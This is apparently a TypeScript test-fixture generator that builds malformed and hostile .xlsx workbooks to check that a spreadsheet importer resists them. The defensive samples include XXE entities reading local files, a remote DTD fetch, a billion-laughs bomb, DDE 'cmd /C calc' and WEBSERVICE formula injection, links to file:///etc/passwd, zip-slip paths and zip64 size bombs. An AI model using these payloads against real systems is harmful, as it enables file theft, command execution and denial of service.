import ExcelJS from 'exceljs';
import { bookOf, bookPart, escaped, inlineCell, partsOf, rowOf, sheetPart, stringsPart } from './book';
import {
  dangerousText,
  either,
  otherKind,
  refused,
  unreadable,
  type Expected,
  type HostileFile,
  type Variant,
} from './hostile';
import { zipOf, type ZipPart } from './zip';

/** What a file on this computer holds that no workbook may bring into the application. */
export const secretInAFile = 'OZGE-FAILDAN-OQYLDY';

const file = (bytes: Uint8Array, expected: Expected, fileName = 'тізім.xlsx'): HostileFile => ({
  fileName,
  bytes,
  expected,
});
const one = inlineCell('A1', 'Аты-жөні');
const plain = { rows: rowOf(1, one) };
const readsOne: Expected = { kind: 'read', rows: [['Аты-жөні']] };

/** Formulas, links and texts that look like them: they are to be read as the texts that they are. */
const texts: readonly Variant[] = [
  {
    name: 'texts that begin like formulas',
    make: (random) => {
      const own = Array.from({ length: 30 }, () => dangerousText(random));
      const rows = own.map((text, n) => rowOf(n + 1, inlineCell(`A${n + 1}`, text.replaceAll('\r', '&#13;'))));
      const shown = own.map((text) => [text.replaceAll('\r', '&#13;')]);
      return file(bookOf({ rows: rows.join('') }), { kind: 'read', rows: shown });
    },
  },
  {
    name: 'formulas with values beside them',
    make: (random) => {
      const own = Array.from({ length: 30 }, () =>
        dangerousText(random)
          .replace(/^[^=]*=/, '')
          .replaceAll(/[\r\n]/g, ' '),
      );
      const rows = own.map((text, n) =>
        rowOf(n + 1, `<c r="A${n + 1}" t="str"><f>${escaped(text)}</f><v>таза</v></c>`),
      );
      return file(bookOf({ rows: rows.join('') }), { kind: 'read', rows: own.map((text) => [`=${text}`]) });
    },
  },
  {
    name: 'shared and array formulas',
    make: (random) => {
      const ref = random.pick(['A1:A3', 'A1:XFD1048576']);
      const kind = random.pick(['shared', 'array', 'dataTable']);
      const rows = [
        rowOf(1, `<c r="A1"><f t="${kind}" ref="${ref}" si="0">WEBSERVICE("http://203.0.113.7/")</f><v>1</v></c>`),
        rowOf(2, `<c r="A2"><f t="${kind}" si="0"/><v>2</v></c>`),
        rowOf(3, `<c r="A3"><f t="${kind}" si="${random.pick(['0', '7', '-1', 'x'])}"/><v>3</v></c>`),
      ];
      return file(bookOf({ rows: rows.join('') }), either);
    },
  },
  {
    name: 'links to other workbooks, programs and places',
    make: (random) => {
      const target = random.pick([
        'http://203.0.113.7/x.xlsx',
        'file:///etc/passwd',
        '\\\\203.0.113.7\\share\\x.xlsx',
        "cmd|'/C calc'",
      ]);
      const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
      const others: ZipPart[] = [
        {
          name: 'xl/externalLinks/externalLink1.xml',
          data: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="x" advise="1"/></ddeItems></ddeLink></externalLink>',
        },
        {
          name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
          data: `<Relationships><Relationship Id="rId1" Type="${type}/externalLinkPath" Target="${target}" TargetMode="External"/></Relationships>`,
        },
        {
          name: 'xl/worksheets/_rels/sheet1.xml.rels',
          data: `<Relationships><Relationship Id="rId1" Type="${type}/hyperlink" Target="${target}" TargetMode="External"/></Relationships>`,
        },
        {
          name: 'xl/connections.xml',
          data: '<connections><connection id="1" name="x" type="4"><webPr url="http://203.0.113.7/"/></connection></connections>',
        },
        { name: 'xl/vbaProject.bin', data: 'Sub Auto_Open()' },
      ];
      const afterRows = '<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks><drawing r:id="rId9"/><oleObjects/>';
      const names = '<externalReferences><externalReference r:id="rId8"/></externalReferences>';
      return file(bookOf({ ...plain, others, afterRows, names }), readsOne);
    },
  },
];

const entities = (random: { pick: <T>(of: readonly T[]) => T }, path: string): string =>
  random.pick([
    `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${path}">]>`,
    `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://203.0.113.7/x.dtd"> %p;]>`,
    `<!DOCTYPE x SYSTEM "file://${path}">`,
    `<!DOCTYPE x [<!ENTITY a "ха"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]>`,
    `<!doctype x [<!entity e "${'х'.repeat(10_000)}">]>`,
  ]);

/** `path`: a file on this computer that an external entity may name. */
const declared = (path: string): readonly Variant[] => [
  {
    name: 'entities declared in a part',
    make: (random) => {
      const part = random.pick([
        sheetPart,
        stringsPart,
        bookPart,
        'xl/styles.xml',
        '[Content_Types].xml',
        'xl/_rels/workbook.xml.rels',
      ]);
      const rows = rowOf(1, `<c r="A1" t="inlineStr"><is><t>&e;</t></is></c><c r="B1" t="s"><v>0</v></c>`);
      const prologue = { [part]: entities(random, path) };
      return file(bookOf({ rows, sharedStrings: '<si><t>&e;</t></si>', prologue }), unreadable);
    },
  },
  {
    name: 'entities declared in a part in UTF-16',
    make: (random) => {
      const prologue = { [sheetPart]: entities(random, path) };
      const rows = rowOf(1, `<c r="A1" t="inlineStr"><is><t>&e;</t></is></c>`);
      const change = (part: ZipPart): ZipPart =>
        part.name === sheetPart
          ? { ...part, data: Buffer.from(`\ufeff${String(part.data).replace('UTF-8', 'UTF-16')}`, 'utf16le') }
          : part;
      return file(bookOf({ rows, prologue, change }), either);
    },
  },
  {
    name: 'parts taken in from elsewhere',
    make: () => {
      const include = `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${path}" parse="text"/>`;
      const prologue = { [sheetPart]: `<?xml-stylesheet type="text/xsl" href="file://${path}"?>` };
      return file(
        bookOf({ rows: rowOf(1, `${one}<c r="B1" t="inlineStr"><is><t>${include}</t></is></c>`), prologue }),
        either,
      );
    },
  },
];

/** Zips that are not what they should be. */
const zips: readonly Variant[] = [
  {
    name: 'a file that was cut',
    make: (random) => {
      const whole = bookOf(plain);
      return file(whole.subarray(0, random.between(5, whole.length - 1)), unreadable);
    },
  },
  {
    name: 'encrypted entries',
    make: () => file(bookOf({ ...plain, change: (part) => ({ ...part, flags: 1 }) }), unreadable),
  },
  {
    name: 'a workbook under a password',
    make: (random) =>
      file(
        Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), random.bytes(5000)]),
        otherKind,
      ),
  },
  {
    name: 'a zip of the 64-bit kind',
    make: () => file(bookOf({ ...plain, change: (part) => ({ ...part, zip64: true }) }), either),
  },
  {
    name: 'a zip of the 64-bit kind that says it is endless',
    make: (random) => {
      const size = random.pick([2 ** 40, 2 ** 52, Number.MAX_SAFE_INTEGER]);
      return file(bookOf({ ...plain, change: (part) => ({ ...part, zip64: true, size }) }), refused);
    },
  },
  {
    name: 'a wrong checksum',
    make: (random) => {
      const crc = random.below(2 ** 31);
      return file(bookOf({ ...plain, change: (part) => (part.name === sheetPart ? { ...part, crc } : part) }), either);
    },
  },
  {
    name: 'two entries of one name',
    make: (random) => {
      const name = random.pick([sheetPart, bookPart, stringsPart, '[Content_Types].xml']);
      const again = partsOf({ rows: rowOf(1, inlineCell('A1', '=1+1')) }).filter((part) => part.name === name);
      return file(zipOf([...partsOf(plain), ...again, ...again]), either);
    },
  },
  {
    name: 'names that lead out of the folder',
    make: (random) => {
      const names = [
        '../../../../etc/x.xml',
        '/etc/cron.d/x',
        'C:\\Windows\\x',
        '..\\..\\x',
        'xl/../../x',
        'a\u0000b.xml',
        '\ud83d/x',
        '__proto__',
        'constructor/prototype',
        '',
      ];
      const others = Array.from({ length: 4 }, (): ZipPart => ({ name: random.pick(names), data: '<x/>' }));
      return file(bookOf({ ...plain, others }), either);
    },
  },
  {
    name: 'a method of packing that nobody knows',
    make: (random) => {
      const method = random.pick([1, 6, 9, 12, 14, 93, 95, 99]);
      return file(
        bookOf({ ...plain, change: (part) => (part.name === sheetPart ? { ...part, method } : part) }),
        unreadable,
      );
    },
  },
  {
    name: 'packed bytes that are none',
    make: (random) => {
      const whole = bookOf(plain);
      for (let n = 0; n < 40; n += 1) whole[random.between(30, Math.floor(whole.length * 0.7))] = random.below(256);
      return file(whole, either);
    },
  },
  {
    name: 'an end that tells of other entries than there are',
    make: (random) => file(bookOf({ ...plain, shape: { count: random.pick([0, 1, 3, 500, 65_535]) } }), either),
  },
  {
    name: 'bytes before and after the zip, and a second end in the comment',
    make: (random) => {
      const comment = random.chance(0.5)
        ? zipOf(partsOf({ rows: rowOf(1, inlineCell('A1', '=1+1')) }))
        : random.bytes(300);
      return file(
        bookOf({
          ...plain,
          shape: { comment, ...(random.chance(0.3) ? { before: Buffer.from('PK\u0003\u0004') } : {}) },
        }),
        either,
      );
    },
  },
];

/** Parts that are no workbook, or one that nobody writes. */
const parts: readonly Variant[] = [
  {
    name: 'parts that break off',
    make: (random) => {
      const name = random.pick([sheetPart, bookPart, 'xl/styles.xml', 'xl/_rels/workbook.xml.rels']);
      const change = (part: ZipPart): ZipPart =>
        part.name === name
          ? { ...part, data: String(part.data).slice(0, random.between(0, String(part.data).length - 1)) }
          : part;
      return file(bookOf({ ...plain, change }), either);
    },
  },
  {
    name: 'parts that are missing',
    make: (random) => {
      const name = random.pick([sheetPart, 'xl/styles.xml', 'xl/_rels/workbook.xml.rels', '[Content_Types].xml']);
      return file(zipOf(partsOf(plain).filter((part) => part.name !== name)), either);
    },
  },
  {
    name: 'values that are none',
    make: (random) => {
      const value = () =>
        random.pick([
          '1e999',
          '-1e999',
          'NaN',
          '-1',
          '99999999999999999999',
          '1.7976931348623157e308',
          '0x10',
          'true',
          '__proto__',
          '',
        ]);
      const kind = () => random.pick(['s', 'n', 'b', 'd', 'e', 'str', 'inlineStr', '__proto__']);
      const rows = Array.from({ length: 200 }, (_, r) =>
        rowOf(r + 1, `<c r="A${r + 1}" t="${kind()}" s="${value()}"><v>${value()}</v></c>`),
      );
      return file(bookOf({ rows: rows.join(''), sharedStrings: '<si><t>a</t></si>' }), either);
    },
  },
  {
    name: 'places that are none',
    make: (random) => {
      const place = () =>
        random.pick([
          '',
          'A',
          '1',
          'A0',
          'A-1',
          '1A',
          'AA',
          'R1C1',
          '$A$1',
          'A1:B2',
          '__proto__',
          'А1',
          'A1.5',
          'A1e3',
        ]);
      const rows = Array.from(
        { length: 30 },
        () => `<row r="${random.pick(['0', '-1', '1', 'x', '1.5', '', '1e4'])}">${inlineCell(place(), 'x')}</row>`,
      );
      return file(bookOf({ rows: rows.join('') }), either);
    },
  },
  {
    name: 'names of sheets that are none',
    make: (random) => {
      const sheetName = random.pick(['', '__proto__', "'", '=1+1', '[x]*?:/\\', 'х'.repeat(10_000), '\u202exslx']);
      return file(bookOf({ ...plain, sheetName }), either);
    },
  },
  {
    name: 'a sheet by another namespace and prefix',
    make: () => {
      const change = (part: ZipPart): ZipPart =>
        part.name === sheetPart
          ? {
              ...part,
              data: `<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData><x:row r="1"><x:c r="A1" t="inlineStr"><x:is><x:t>a</x:t></x:is></x:c></x:row></x:sheetData></x:worksheet>`,
            }
          : part;
      return file(bookOf({ ...plain, change }), either);
    },
  },
];

/** Files that are no workbook at all. */
const others: readonly Variant[] = [
  {
    name: 'no zip under the name of a workbook',
    make: (random) =>
      file(
        random.pick([
          Buffer.from('Аты-жөні;ЖСН\n'),
          Buffer.from('<html><script>alert(1)</script></html>'),
          Buffer.from(random.bytes(3000)),
          Buffer.alloc(0),
          Buffer.alloc(100),
        ]),
        otherKind,
      ),
  },
  {
    name: 'an old binary workbook',
    make: (random) =>
      file(
        Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), random.bytes(20_000)]),
        otherKind,
        'тізім.xls',
      ),
  },
  {
    name: 'another kind of file',
    make: (random) => {
      const [bytes, name] = random.pick([
        [Buffer.from('%PDF-1.7\n'), 'тізім.pdf'],
        [zipOf([{ name: 'word/document.xml', data: '<w:document/>' }]), 'тізім.docx'],
        [
          zipOf([
            { name: 'mimetype', data: 'application/vnd.oasis.opendocument.spreadsheet', method: 0 },
            { name: 'content.xml', data: '<x/>' },
          ]),
          'тізім.ods',
        ],
        [Buffer.from([0x89, 0x50, 0x4e, 0x47]), 'сурет.png'],
        [Buffer.from('PK\u0005\u0006'.padEnd(22, '\u0000')), 'бос.xlsx'],
      ] as const);
      return file(bytes, otherKind, name);
    },
  },
  {
    name: 'only the first bytes of a zip',
    make: (random) =>
      file(Buffer.concat([Buffer.from('PK\u0003\u0004'), random.bytes(random.below(4000))]), unreadable),
  },
];

export const tricks = (path: string): readonly Variant[] => [...texts, ...declared(path), ...zips, ...parts, ...others];

/** What exceljs itself writes, so that an honest workbook is known to be read. */
export async function honestWorkbook(): Promise<Uint8Array> {
  const book = new ExcelJS.Workbook();
  book.addWorksheet('Тізім').addRow(['Аты-жөні', 'ЖСН']);
  return new Uint8Array(await book.xlsx.writeBuffer());
}
